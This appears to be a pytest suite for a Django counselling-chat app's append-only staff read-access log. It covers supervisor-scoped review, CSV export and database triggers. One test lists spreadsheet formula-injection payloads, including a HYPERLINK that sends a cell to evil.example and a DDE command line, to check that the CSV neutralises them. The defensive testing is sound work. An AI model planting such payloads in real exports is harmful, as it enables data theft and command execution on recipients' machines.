"""The read-access log: every staff read of a client's messages is written, append-only,
and supervisors review their own units' reads (page and CSV)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from unittest import mock

import pytest
from django.db import DatabaseError, connection, transaction
from django.utils import timezone, translation

from chat.errors import NotFound
from chat.models import AccessLog
from chat.selectors import access_log_list
from chat.services.access import PreviewShown, conversation_read_messages, queue_previews_read
from chat.services.retention import retention_purge
from tests import factories
from tests.security_personas import http_client

pytestmark = pytest.mark.django_db


def read(actor, conversation, after=0):
    return conversation_read_messages(
        actor=actor, conversation_id=conversation.pk, after=after, request_id=uuid.uuid4()
    )


@pytest.fixture
def vera(vald):
    return factories.make_user("vera_log", role="supervisor", units=[vald])


@pytest.fixture
def active(ekonomi, anna):
    conversation, _token = factories.start_conversation(ekonomi, "Hemligt.")
    return factories.accept(anna, conversation)


def test_a_read_by_the_assigned_worker_writes_one_row_that_took_part(active, anna):
    read(anna, active)

    row = AccessLog.objects.get()
    assert row.actor == anna
    assert row.took_part is True
    assert row.conversation_id == active.pk
    assert row.unit_id == active.unit_id
    assert row.action == AccessLog.Action.READ_MESSAGES
    assert row.actor_name == "Anna"


def test_a_read_by_an_unassigned_worker_of_the_unit_is_written_as_not_taking_part(active, bengt):
    read(bengt, active)

    row = AccessLog.objects.get()
    assert (row.actor, row.took_part) == (bengt, False)


def test_a_supervisor_s_read_is_written_as_not_taking_part(active, sara):
    read(sara, active)

    assert list(AccessLog.objects.values_list("actor", "took_part")) == [(sara.pk, False)]


def test_a_read_that_shows_nothing_writes_nothing(active, anna):
    active.refresh_from_db()

    _conversation, messages, *_ = read(anna, active, after=active.last_seq)

    assert messages == []
    assert not AccessLog.objects.exists()


def test_a_refused_read_writes_nothing_and_says_not_found(active, cecilia):
    with pytest.raises(NotFound):
        read(cecilia, active)

    assert not AccessLog.objects.exists()


def test_every_read_is_its_own_row(active, anna, bengt):
    read(anna, active)
    read(bengt, active)
    read(anna, active)

    assert AccessLog.objects.count() == 3


# --- the selector ---------------------------------------------------------------------------
@pytest.fixture
def reads(ekonomi, vald, anna, bengt, cecilia):
    """Reads in both units: Anna and Bengt in Ekonomiskt bistånd, Cecilia in Våld."""
    ekonomi_conversation, _ = factories.start_conversation(ekonomi, "A")
    factories.accept(anna, ekonomi_conversation)
    second, _ = factories.start_conversation(ekonomi, "B")
    vald_conversation, _ = factories.start_conversation(vald, "C")
    factories.accept(cecilia, vald_conversation)
    read(anna, ekonomi_conversation)
    read(bengt, ekonomi_conversation)
    read(bengt, second)
    read(cecilia, vald_conversation)
    return {"ekonomi": ekonomi_conversation, "second": second, "vald": vald_conversation}


def test_a_supervisor_sees_only_the_reads_of_their_own_units(reads, sara, vera, ekonomi, vald):
    assert {row.unit_id for row in access_log_list(supervisor=sara)} == {ekonomi.pk}
    assert access_log_list(supervisor=sara).count() == 3
    assert [row.unit_id for row in access_log_list(supervisor=vera)] == [vald.pk]


def test_nobody_but_a_supervisor_sees_any_read(reads, anna, cecilia):
    assert access_log_list(supervisor=anna).count() == 0
    assert access_log_list(supervisor=cecilia).count() == 0


def test_the_filters_narrow_by_actor_conversation_and_date(reads, sara, bengt, anna, vald):
    assert {r.actor_id for r in access_log_list(supervisor=sara, actor_id=bengt.pk)} == {bengt.pk}
    assert access_log_list(supervisor=sara, actor_id=bengt.pk).count() == 2
    by_conversation = access_log_list(supervisor=sara, conversation_id=reads["second"].pk)
    assert [(r.actor_id, r.took_part) for r in by_conversation] == [(bengt.pk, False)]
    # Another unit's conversation by id: still nothing.
    assert access_log_list(supervisor=sara, conversation_id=reads["vald"].pk).count() == 0
    today = timezone.localdate()
    assert access_log_list(supervisor=sara, since=today, until=today).count() == 3
    assert access_log_list(supervisor=sara, since=today + timedelta(days=1)).count() == 0
    assert access_log_list(supervisor=sara, until=today - timedelta(days=1)).count() == 0


def test_the_list_is_newest_first(reads, sara):
    rows = list(access_log_list(supervisor=sara))
    assert rows == sorted(rows, key=lambda r: (r.at, r.pk), reverse=True)


# --- the review page and the CSV --------------------------------------------------------------
def test_the_review_page_marks_the_reads_by_staff_who_did_not_take_part(reads, sara):
    response = http_client(sara).get("/dashboard/access-log/")

    assert response.status_code == 200
    html = response.content.decode()
    assert html.count('class="stands-out"') == 2  # Bengt's two reads; Anna took part
    assert "Cecilia" not in html
    assert response.context["total"] == 3


def test_a_preview_in_the_queue_is_listed_but_does_not_stand_out(reads, sara, bengt, ekonomi):
    waiting, _ = factories.start_conversation(ekonomi, "D")
    queue_previews_read(
        actor=bengt,
        shown=[PreviewShown(waiting.pk, ekonomi.pk, ekonomi.name)],
        request_id=uuid.uuid4(),
    )

    response = http_client(sara).get("/dashboard/access-log/")
    html = response.content.decode()
    assert response.context["total"] == 4
    assert html.count('class="stands-out"') == 2  # still only Bengt's two reads
    with translation.override(response.context["LANGUAGE_CODE"]):
        assert translation.gettext("no – the queue") in html

    to_review = http_client(sara).get("/dashboard/access-log/", {"standing_out": "on"})
    assert [r.action for r in to_review.context["rows"]] == ["read_messages"] * 2
    assert all(not r.took_part for r in to_review.context["rows"])


def test_a_preview_of_a_protected_case_stands_out(ekonomi, bengt):
    waiting, _ = factories.start_conversation(ekonomi, "E")
    (row,) = queue_previews_read(
        actor=bengt,
        shown=[PreviewShown(waiting.pk, ekonomi.pk, ekonomi.name)],
        request_id=uuid.uuid4(),
    )
    # The same preview of a protected case (rows are only ever inserted).
    copied = {f.attname: getattr(row, f.attname) for f in AccessLog._meta.concrete_fields}
    protected = AccessLog.objects.create(**{**copied, "id": None, "flagged": True})

    rows = AccessLog.objects.with_stands_out()
    assert not rows.get(pk=row.pk).stands_out
    assert rows.get(pk=protected.pk).stands_out


def test_the_review_page_filters_by_staff_member(reads, sara, bengt):
    response = http_client(sara).get("/dashboard/access-log/", {"actor": bengt.pk})

    assert [row.actor_id for row in response.context["rows"]] == [bengt.pk, bengt.pk]


def test_the_review_page_offers_no_staff_from_other_units(reads, sara, cecilia):
    response = http_client(sara).get("/dashboard/access-log/", {"actor": cecilia.pk})

    assert cecilia not in response.context["form"].fields["actor"].queryset
    assert response.context["total"] == 3  # an invalid filter filters nothing, shows no more


def test_the_csv_has_a_header_and_one_line_per_read(reads, sara):
    response = http_client(sara).get("/dashboard/access-log.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [
        "time",
        "staff",
        "unit",
        "conversation",
        "case",
        "action",
        "took_part",
        "request_id",
        "flagged",
    ]
    assert len(rows) == 4
    assert sorted(row[6] for row in rows[1:]) == ["no", "no", "yes"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"klicka")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ],
)
def test_the_csv_neutralises_formula_cells(ekonomi, sara, bengt, name):
    bengt.first_name = name
    bengt.save()
    conversation, _ = factories.start_conversation(ekonomi, "x")
    read(bengt, conversation)

    response = http_client(sara).get("/dashboard/access-log.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    staff = rows[1][1]
    assert staff.startswith("'"), staff
    assert staff[1:] == bengt.get_full_name()
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_the_csv_is_only_the_supervisor_s_units(reads, vera):
    response = http_client(vera).get("/dashboard/access-log.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 2 and rows[1][1] == "Cecilia"


# --- append-only, on PostgreSQL ---------------------------------------------------------------
def _old_row(actor, unit, days: int) -> AccessLog:
    """A row written `days` ago (auto_now_add takes the clock, so the clock is moved)."""
    then = timezone.now() - timedelta(days=days)
    with mock.patch("django.utils.timezone.now", return_value=then):
        return AccessLog.objects.create(
            actor=actor,
            actor_name=actor.username,
            unit_id=unit.pk,
            unit_name=unit.name,
            conversation_id=1,
            action=AccessLog.Action.READ_MESSAGES,
            took_part=False,
            request_id=uuid.uuid4(),
        )


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_the_database_refuses_to_change_or_delete_a_row(ekonomi, bengt):
    row = _old_row(bengt, ekonomi, days=1)

    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        AccessLog.objects.filter(pk=row.pk).update(took_part=True)
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        AccessLog.objects.filter(pk=row.pk).delete()
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        row.actor_name = "someone else"
        row.save()
    with (
        pytest.raises(DatabaseError, match="append-only"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute("DELETE FROM chat_accesslog")

    row.refresh_from_db()
    assert (row.took_part, row.actor_name) == (False, bengt.username)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_the_retention_purge_may_delete_old_rows_and_nothing_else_may_after_it(
    settings, ekonomi, bengt
):
    old = _old_row(bengt, ekonomi, days=settings.RETENTION_DAYS["access_log"] + 1)
    recent = _old_row(bengt, ekonomi, days=settings.RETENTION_DAYS["access_log"] - 1)

    report = retention_purge()

    assert report.counts["access_log_rows_deleted"] == 1
    assert list(AccessLog.objects.values_list("pk", flat=True)) == [recent.pk]
    assert not AccessLog.objects.filter(pk=old.pk).exists()
    # SET LOCAL ended with the purge's transaction: the next delete is refused again.
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        AccessLog.objects.filter(pk=recent.pk).delete()


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_session_cannot_borrow_the_purge_switch_without_saying_so(ekonomi, bengt):
    """The switch is per transaction: it has to be set in the very transaction that
    deletes (documented: the trigger guards against mistakes, not against the owner)."""
    row = _old_row(bengt, ekonomi, days=1)
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL chatcounsel.purge = 'on'")
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
        AccessLog.objects.filter(pk=row.pk).delete()
